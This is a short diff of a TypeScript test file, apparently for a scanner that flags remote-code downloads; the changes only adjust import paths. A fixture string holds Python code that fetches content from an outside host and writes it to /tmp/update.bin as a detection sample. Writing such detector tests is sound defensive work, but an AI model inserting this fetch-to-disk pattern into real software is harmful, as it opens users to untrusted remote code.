@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { testBuild } from '../../open-build.ts';
+import { testBuild } from '../../test-build.ts';
 import { scan } from '../../scan.ts';
-import { arrivedFiles, lockedStartOf, remoteCode, startOf } from './remote-code.ts';
+import { remoteCode } from './remote-code.ts';
+import { arrivedFiles, lockedStartOf, startOf } from '../../evidence/arrived-files.ts';
 
 const FETCH =
   'import os, subprocess, requests\nopen("/tmp/update.bin", "wb").write(requests.get("http://a.io").content)\n';
